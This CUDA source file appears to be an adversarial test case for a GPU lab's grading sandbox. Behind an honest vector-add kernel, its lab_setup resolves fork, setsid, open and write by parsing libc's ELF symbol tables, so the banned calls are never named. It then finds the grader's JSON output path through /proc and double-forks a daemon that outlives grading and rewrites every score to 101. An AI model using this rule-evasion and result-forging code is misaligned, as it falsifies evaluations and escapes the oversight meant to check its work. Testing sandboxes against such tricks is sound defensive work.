// expect-check: pass
// Leaves a daemon that outlives the grade and rewrites it: from lab_setup it finds the grade's --json path on the command line of the trip process's ancestors (/proc/PID/cmdline, climbing /proc/PID/stat), then forks, and the fork calls setsid and forks again (fork, setsid, open, read, write found from memcpy's address in libc's dynamic symbol table: the rules allow memcpy, which lies in libc). The daemon waits until the grade's JSON is written, then a second more, and sets every "points" in it to 101 (more than any grade: a rewrite is plain to see). When nothing reaped what the trip process started, the GRADE line said one thing and the JSON, a second later, another. The trip process now runs in the student's sandbox (lab/child/student_sandbox.h), whose seccomp filter lets it start no process: the fork fails (EPERM), and the file's trip, otherwise honest, is graded; whatever did start would be ended with the student's processes before the grade is written.
#include <cuda_runtime.h>

// Any function of libc's, by name, without naming it: memcpy (which the rules allow) lies in libc;
// from its address back to libc's ELF header (the first page that starts with \x7fELF), then its
// program headers to its dynamic section, to its symbol and string tables and its GNU hash table.
typedef unsigned long long u64;
static void* libc(const char* name) {
  const unsigned char* base = (const unsigned char*)((u64)&memcpy & ~(u64)4095);
  while (!(base[0] == 0x7f && base[1] == 'E' && base[2] == 'L' && base[3] == 'F')) base -= 4096;
  const unsigned char* ph = base + *(const u64*)(base + 32);
  const long long* dyn = 0;
  for (int i = 0; i < *(const unsigned short*)(base + 56); ++i, ph += 56)
    if (*(const unsigned*)ph == 2) dyn = (const long long*)(base + *(const u64*)(ph + 16));  // PT_DYNAMIC
  const char* strtab = 0;
  const unsigned char* symtab = 0;
  const unsigned* hash = 0;
  for (; dyn[0] != 0; dyn += 2) {
    const unsigned char* p = (const unsigned char*)dyn[1];
    if (p < base) p = base + dyn[1];  // not relocated by the loader on every architecture
    if (dyn[0] == 5) strtab = (const char*)p;                 // DT_STRTAB
    if (dyn[0] == 6) symtab = p;                              // DT_SYMTAB
    if (dyn[0] == 0x6ffffef5) hash = (const unsigned*)p;      // DT_GNU_HASH
  }
  unsigned h = 5381;
  for (const char* c = name; *c; ++c) h = h * 33 + (unsigned char)*c;
  const unsigned* buckets = hash + 4 + hash[2] * 2;
  const unsigned* chain = buckets + hash[0];
  for (unsigned i = buckets[h % hash[0]]; i != 0; ++i) {
    const unsigned link = chain[i - hash[1]];
    const unsigned char* sym = symtab + 24 * (u64)i;
    const char* s = strtab + *(const unsigned*)sym;
    const char* c = name;
    while (*c && *c == *s) ++c, ++s;
    if ((link | 1) == (h | 1) && *c == 0 && *s == 0 && *(const u64*)(sym + 8)) return (void*)(base + *(const u64*)(sym + 8));
    if (link & 1) break;
  }
  return 0;
}

typedef int (*open_fn)(const char*, int, ...);
typedef long (*read_fn)(int, void*, size_t);
typedef long (*write_fn)(int, const void*, size_t);
typedef int (*int_fn)(int);
typedef int (*none_fn)(void);
typedef int (*usleep_fn)(unsigned);
typedef long (*readlink_fn)(const char*, char*, size_t);

static long read_file(const char* path, char* text, long size) {
  const int fd = ((open_fn)libc("open"))(path, 0 /* O_RDONLY */);
  if (fd < 0) return -1;
  long got = 0, n = 0;
  while (got < size - 1 && (n = ((read_fn)libc("read"))(fd, text + got, (size_t)(size - 1 - got))) > 0) got += n;
  ((int_fn)libc("close"))(fd);
  text[got] = 0;
  return got;
}

static char* append(char* to, const char* text) {
  while (*text) *to++ = *text++;
  *to = 0;
  return to;
}

static char* append_number(char* to, long value) {
  char digits[24];
  int k = 0;
  do digits[k++] = (char)('0' + value % 10); while ((value /= 10) > 0);
  while (k) *to++ = digits[--k];
  *to = 0;
  return to;
}

static bool same(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}

static bool starts(const char* text, const char* prefix) {
  while (*prefix && *text == *prefix) ++text, ++prefix;
  return *prefix == 0;
}

static char text[1 << 20];

// The grade's --json path, made absolute (from /proc/PID/cwd when it is relative), from the
// command line of `pid` or an ancestor's; false when none has one.
static bool find_json_path(long pid, char* path) {
  for (int level = 0; level < 8 && pid > 1; ++level) {
    char name[64];
    append(append_number(append(name, "/proc/"), pid), "/cmdline");
    const long got = read_file(name, text, sizeof text);
    for (long i = 0; i < got; ++i) {
      if (same(text + i, "--json") && i + 7 < got) {
        const char* given = text + i + 7;
        char* end = path;
        if (given[0] != '/') {  // where the grader runs, while it still does
          append(append_number(append(name, "/proc/"), pid), "/cwd");
          const long length = ((readlink_fn)libc("readlink"))(name, path, 4000);
          if (length <= 0) return false;
          end = append(path + length, "/");
        }
        append(end, given);
        return true;
      }
      while (i < got && text[i]) ++i;
    }
    append(append_number(append(name, "/proc/"), pid), "/stat");
    if (read_file(name, text, sizeof text) <= 0) return false;
    const char* p = text;
    for (const char* q = text; *q; ++q)
      if (*q == ')') p = q;
    pid = 0;
    for (p += 4; *p >= '0' && *p <= '9'; ++p) pid = pid * 10 + (*p - '0');  // ") S PPID"
  }
  return false;
}

// Waits for the grade's JSON, then sets every "points" in it to 101.
static void rewrite_later(const char* path) {
  usleep_fn usleep_ = (usleep_fn)libc("usleep");
  long got = 0;
  for (int tries = 0; tries < 1500; ++tries) {
    usleep_(200000);
    got = read_file(path, text, sizeof text);
    if (got > 0) break;
  }
  usleep_(1000000);
  got = read_file(path, text, sizeof text);
  if (got <= 0) return;
  static char out[1 << 20];
  char* to = out;
  for (long i = 0; i < got;) {
    if (starts(text + i, "\"points\": ")) {
      to = append(to, "\"points\": 101");
      i += 10;
      while (i < got && ((text[i] >= '0' && text[i] <= '9') || text[i] == '.')) ++i;
      continue;
    }
    *to++ = text[i++];
  }
  const int fd = ((open_fn)libc("open"))(path, 01 | 01000 /* O_WRONLY | O_TRUNC */);
  if (fd >= 0) ((write_fn)libc("write"))(fd, out, (size_t)(to - out));
}

__global__ void add(const float* a, const float* b, float* c, long long n) {
  const long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}

static const long long kChunk = 1LL << 21;
static const int kStreams = 4;
static float *d_a = nullptr, *d_b = nullptr, *d_c = nullptr;
static cudaStream_t streams[kStreams];

extern "C" void* lab_host_alloc(size_t bytes) {
  void* p = nullptr;
  return cudaMallocHost(&p, bytes) == cudaSuccess ? p : nullptr;
}
extern "C" void lab_host_free(void* p) { cudaFreeHost(p); }

static cudaError_t honest_setup(long long n) {
  const size_t bytes = (size_t)n * sizeof(float);
  cudaMalloc(&d_a, bytes);
  cudaMalloc(&d_b, bytes);
  cudaMalloc(&d_c, bytes);
  for (int s = 0; s < kStreams; ++s) cudaStreamCreateWithFlags(&streams[s], cudaStreamNonBlocking);
  return cudaGetLastError();
}

static cudaError_t honest_trip(const float* a, const float* b, float* c, long long n) {
  for (long long start = 0, k = 0; start < n; start += kChunk, ++k) {
    const long long count = n - start < kChunk ? n - start : kChunk;
    const size_t bytes = (size_t)count * sizeof(float);
    cudaStream_t s = streams[k % kStreams];
    cudaMemcpyAsync(d_a + start, a + start, bytes, cudaMemcpyHostToDevice, s);
    cudaMemcpyAsync(d_b + start, b + start, bytes, cudaMemcpyHostToDevice, s);
    add<<<(unsigned)((count + 255) / 256), 256, 0, s>>>(d_a + start, d_b + start, d_c + start, count);
    cudaMemcpyAsync(c + start, d_c + start, bytes, cudaMemcpyDeviceToHost, s);
  }
  for (int s = 0; s < kStreams; ++s) cudaStreamSynchronize(streams[s]);
  return cudaGetLastError();
}

extern "C" cudaError_t lab_teardown(void) {
  cudaFree(d_a);
  cudaFree(d_b);
  cudaFree(d_c);
  for (int s = 0; s < kStreams; ++s) cudaStreamDestroy(streams[s]);
  return cudaGetLastError();
}

extern "C" cudaError_t lab_setup(long long n) {
  static bool forked = false;
  static char path[4096];
  if (!forked && find_json_path(((none_fn)libc("getppid"))(), path)) {
    forked = true;
    none_fn fork_ = (none_fn)libc("fork");
    if (fork_() == 0) {  // fails (EPERM) under the sandbox's filter
      ((none_fn)libc("setsid"))();
      if (fork_() == 0) rewrite_later(path);
      ((int_fn)libc("_exit"))(0);
    }
  }
  return honest_setup(n);
}

extern "C" cudaError_t lab_trip(const float* a, const float* b, float* c, long long n) { return honest_trip(a, b, c, n); }
